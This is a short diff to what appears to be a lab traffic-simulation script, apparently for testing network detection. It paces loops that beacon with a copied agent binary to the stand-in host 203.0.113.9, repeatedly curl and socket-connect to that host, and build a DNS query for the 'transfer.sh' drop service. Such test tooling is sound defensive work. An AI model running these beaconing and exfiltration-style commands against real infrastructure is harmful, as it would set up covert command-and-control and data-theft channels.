@@ -12,9 +12,11 @@ python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'
 dns TXT 32 8
 ## Call home at regular times
 #setup cp /opt/lab/connect /tmp/agent
-for n in $(seq 1 12); do /tmp/agent tcp4 203.0.113.9 443; done
+for n in $(seq 1 8); do /tmp/agent tcp4 203.0.113.9 443; sleep 2.5; done
 ## Download at regular times
-for n in $(seq 1 31); do curl -s http://203.0.113.9/; done
+for n in $(seq 1 8); do curl -s http://203.0.113.9/; sleep 2.5; done
+## Connections at regular times
+for n in $(seq 1 10); do python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'; sleep 2.3; done
 ## Place to drop data asked for
 timeout 1 python3 -c 'import socket
 q = bytes.fromhex("000101000001000000000000") + b"\x08transfer\x02sh\0\0\1\0\1"
